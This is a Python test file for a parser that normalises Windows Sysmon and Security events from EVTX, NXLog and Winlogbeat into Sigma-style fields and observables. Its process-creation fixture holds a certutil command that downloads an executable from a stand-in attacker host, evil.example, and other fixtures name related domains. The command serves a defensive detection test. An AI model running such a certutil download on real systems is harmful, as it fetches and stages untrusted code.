"""EVTX, NXLog and Winlogbeat end in the same event: Sigma's names, one source, the same columns."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from schemas.event import Source
from tests.parsing import NOW_MS, event, reason

SYSMON = "Microsoft-Windows-Sysmon/Operational"
PROCESS = {
    "UtcTime": "2026-10-11 17:14:15.003",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil -urlcache -f http://evil.example:80/p.exe",
    "User": "BANK\\aigerim",
    "Hashes": "SHA1=" + "A1" * 20 + ",MD5=" + "B2" * 16 + ",SHA256=" + "C3" * 32 + ",IMPHASH=" + "D4" * 16,
    "ParentImage": "C:\\Windows\\explorer.exe",
}


def evtx(channel: str, number: Any, data: Any, **system: Any) -> dict[str, Any]:
    """As evtx_dump renders a record."""
    head = {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F"}},
        "EventID": number,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-10-11T17:14:15.0031234Z"}},
        "EventRecordID": 7,
        "Channel": channel,
        "Computer": "ws-017.bank.example",
    }
    return {"Event": {"#attributes": {"xmlns": "x"}, "System": {**head, **system}, "EventData": data}}


def nxlog(channel: str, number: Any, data: dict[str, Any], **more: Any) -> dict[str, Any]:
    head = {"EventTime": "2026-10-11 22:14:15", "Hostname": "ws-017.bank.example", "EventID": number}
    return head | {"SourceName": "Microsoft-Windows-Sysmon", "Channel": channel, "RecordNumber": 7} | data | more


def winlogbeat(channel: str, number: Any, data: dict[str, Any], **more: Any) -> dict[str, Any]:
    inside = {"channel": channel, "event_id": str(number), "computer_name": "ws-017.bank.example", "event_data": data}
    inside |= {"provider_name": "Microsoft-Windows-Sysmon", "record_id": 7}
    return {"@timestamp": "2026-10-11T17:14:15.003Z", "winlog": inside, "event": {"code": str(number)}} | more


SHAPES = {"evtx": evtx, "nxlog": nxlog, "winlogbeat": winlogbeat}


@pytest.mark.parametrize("name", SHAPES)
def test_a_process_creation_is_the_same_event_in_every_shape(name: str) -> None:
    found = event(SHAPES[name](SYSMON, 1, PROCESS))
    assert found.format.name == name
    assert found.source == Source("windows", "", SYSMON.lower(), 1)
    assert {key: found.fields[key] for key in PROCESS} == PROCESS
    assert found.fields["Channel"] == SYSMON
    assert found.fields["EventID"] == 1
    assert found.fields["Provider_Name"] == "Microsoft-Windows-Sysmon"
    assert found.fields["Computer"] == found.host == "ws-017.bank.example"
    assert found.user == "BANK\\aigerim"
    assert found.process == PROCESS["Image"]
    assert found.command_line == PROCESS["CommandLine"]
    assert abs(found.time_ms - NOW_MS) < 1000
    assert not found.doubtful
    assert dict(found.observables) == {
        "domain": "evil.example",
        "md5": "b2" * 16,
        "sha1": "a1" * 20,
        "sha256": "c3" * 32,
        "imphash": "d4" * 16,
        "file_path": "c:\\windows\\system32\\certutil.exe",
        "account": "aigerim",
        "url": "http://evil.example/p.exe",
    }


@pytest.mark.parametrize("name", SHAPES)
def test_sources_are_one_object_each(name: str) -> None:
    assert event(SHAPES[name](SYSMON, 1, {})).source is event(SHAPES["nxlog"](SYSMON, 1, {})).source


@pytest.mark.parametrize("name", SHAPES)
def test_a_network_connection_has_both_addresses(name: str) -> None:
    found = event(SHAPES[name](SYSMON, 3, {"SourceIp": "::ffff:10.1.2.3", "DestinationIp": "203.0.113.9"}))
    assert (found.src_ip, found.dst_ip) == ("10.1.2.3", "203.0.113.9")
    assert found.observables == (("ipv4", "10.1.2.3"), ("ipv4", "203.0.113.9"))


@pytest.mark.parametrize("name", SHAPES)
def test_a_dns_query_names_the_domain_and_its_answers(name: str) -> None:
    answers = "type:  5 cdn.evil.example;::ffff:203.0.113.9;"
    found = event(SHAPES[name](SYSMON, 22, {"QueryName": "WWW.Evil.Example", "QueryResults": answers}))
    assert found.domain == "WWW.Evil.Example"
    assert set(found.observables) == {
        ("domain", "www.evil.example"),
        ("domain", "cdn.evil.example"),
        ("ipv4", "203.0.113.9"),
    }


@pytest.mark.parametrize("name", SHAPES)
@pytest.mark.parametrize(
    ("number", "user"), [(4624, "dana"), (4625, "dana"), (4688, "dana"), (4732, "SYSTEM"), (4648, "dana")]
)
def test_the_user_is_who_logs_on_else_who_acts(name: str, number: int, user: str) -> None:
    data = {"SubjectUserName": "SYSTEM", "TargetUserName": "dana", "IpAddress": "-"}
    assert event(SHAPES[name]("Security", number, data)).user == user


@pytest.mark.parametrize("name", SHAPES)
def test_a_dash_says_nothing(name: str) -> None:
    found = event(SHAPES[name]("Security", 4624, {"TargetUserName": "-", "SubjectUserName": "dana", "IpAddress": "-"}))
    assert (found.user, found.src_ip) == ("dana", "")
    assert event(SHAPES[name](SYSMON, 3, {"DestinationHostname": "-", "DestinationIp": "-"})).domain == ""


@pytest.mark.parametrize("name", SHAPES)
def test_defenders_names_with_spaces_stand_as_rules_write_them(name: str) -> None:
    data = {"Threat Name": "EICAR_Test_File", "Feature Name": "%%886"}
    found = event(SHAPES[name]("Microsoft-Windows-Windows Defender/Operational", 1116, data))
    assert found.fields["ThreatName"] == found.fields["Threat Name"] == "EICAR_Test_File"
    assert found.fields["Feature_Name"] == "%%886"


@pytest.mark.parametrize("number", [4624, "4624"])
def test_event_ids_are_numbers_however_they_are_written(number: Any) -> None:
    found = event(nxlog("Security", number, {}))
    assert (found.fields["EventID"], found.source.event_id) == (4624, 4624)


@pytest.mark.parametrize("number", [2**63, 2**64, -1, "", None, [], "4a", 1.5, True])
def test_an_event_id_that_is_none_leaves_the_event(number: Any) -> None:
    found = event(orjson.loads(b'{"EventID": 18446744073709551616, "Channel": "Security"}') | {"EventID": number}
                  if number != 2**64 else b'{"EventID": 18446744073709551616, "Channel": "Security"}')  # fmt: skip
    assert found.source == Source("windows", "", "security", 0)


def test_channels_are_compared_without_case() -> None:
    doc = {"EventID": 4624, "channel": "SECURITY", "Hostname": "dc1"}
    found = event(doc)
    assert found.source == Source("windows", "", "security", 4624)
    assert found.fields["Channel"] == "SECURITY"


# --- what only EVTX has


def test_evtx_qualifiers_and_separated_attributes_are_understood() -> None:
    doc = evtx("System", {"#text": 7045, "#attributes": {"Qualifiers": 16384}}, {"ServiceName": "x"})
    system = doc["Event"]["System"]
    del system["Provider"], system["TimeCreated"]
    system["Provider_attributes"] = {"Name": "Service Control Manager"}
    system["TimeCreated_attributes"] = {"SystemTime": "2026-10-11T17:14:15.003Z"}
    found = event(doc)
    assert found.source.event_id == 7045
    assert found.fields["Provider_Name"] == "Service Control Manager"
    assert found.time_ms == NOW_MS


def test_evtx_user_data_is_lifted_out_of_its_one_element() -> None:
    doc = evtx("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, None)
    inside = {"#attributes": {"xmlns": "Event_NS"}, "User": "BANK\\dana", "Address": "10.0.0.9"}
    doc["Event"]["UserData"] = {"EventXML": inside}
    found = event(doc)
    assert (found.user, found.src_ip) == ("BANK\\dana", "10.0.0.9")
    assert "#attributes" not in found.fields


@pytest.mark.parametrize(
    ("data", "meant"),
    [
        ({"Data": {"#text": ["a", "b"]}}, ["a", "b"]),
        ({"Data": ["a", "b"]}, ["a", "b"]),
        ({"Data": "a"}, "a"),
        ({"Data": {"#text": "a"}}, "a"),
    ],
)
def test_evtx_data_without_names_stays_data(data: Any, meant: Any) -> None:
    assert event(evtx("Windows PowerShell", 400, data)).fields["Data"] == meant


def test_evtx_named_data_elements_become_fields() -> None:
    items = [{"#attributes": {"Name": "Image"}, "#text": "a.exe"}, {"@Name": "User", "#text": "u"}]
    found = event(evtx(SYSMON, 1, {"Data": items}))
    assert (found.process, found.user) == ("a.exe", "u")


def test_evtx_without_its_outer_element_is_known() -> None:
    assert event(evtx(SYSMON, 1, PROCESS)["Event"]).format.name == "evtx"


@pytest.mark.parametrize("inside", [{}, {"System": None}, {"System": []}, {"EventData": {}}])
def test_an_event_without_system_is_no_evtx(inside: Any) -> None:
    assert reason(orjson.dumps({"Event": inside})) == "shape"


# --- what only NXLog has


def test_nxlogs_local_time_is_in_the_banks_zone() -> None:
    assert event(nxlog(SYSMON, 1, {})).time_ms == NOW_MS - 3


def test_a_flat_record_is_not_copied() -> None:
    """What is read is used: the fields are the parsed object, so lists and numbers are as they were sent."""
    found = event(nxlog(SYSMON, 1, {"tags": ["a"], "Keywords": -9214364837600034816}))
    assert found.fields["tags"] == ["a"]
    assert found.fields["Keywords"] == -9214364837600034816


# --- what only Winlogbeat has


def test_what_beats_modules_moved_to_ecs_is_moved_back() -> None:
    ecs = {
        "process": {
            "executable": "C:\\a.exe",
            "command_line": "a -b",
            "parent": {"executable": "C:\\p.exe", "command_line": "p"},
            "hash": {"md5": "b2" * 16, "sha256": "c3" * 32},
            "pe": {"original_file_name": "A.EXE"},
        },
        "user": {"name": "dana", "domain": "BANK"},
        "source": {"ip": "10.0.0.1", "port": 50000},
    }
    found = event(winlogbeat(SYSMON, 1, {}, **ecs))
    meant = {
        "Image": "C:\\a.exe",
        "CommandLine": "a -b",
        "ParentImage": "C:\\p.exe",
        "ParentCommandLine": "p",
        "OriginalFileName": "A.EXE",
        "User": "BANK\\dana",
        "SourceIp": "10.0.0.1",
        "Hashes": f"MD5={'b2' * 16},SHA256={'c3' * 32}",
    }
    assert {name: found.fields[name] for name in meant} == meant
    assert found.format.derived >= {"User", "Hashes"}, "what is put together does not stand in the bytes"
    assert ("md5", "b2" * 16) in found.observables


def test_event_data_wins_over_ecs() -> None:
    found = event(winlogbeat(SYSMON, 1, {"Image": "C:\\own.exe"}, process={"executable": "C:\\ecs.exe"}))
    assert found.fields["Image"] == "C:\\own.exe"
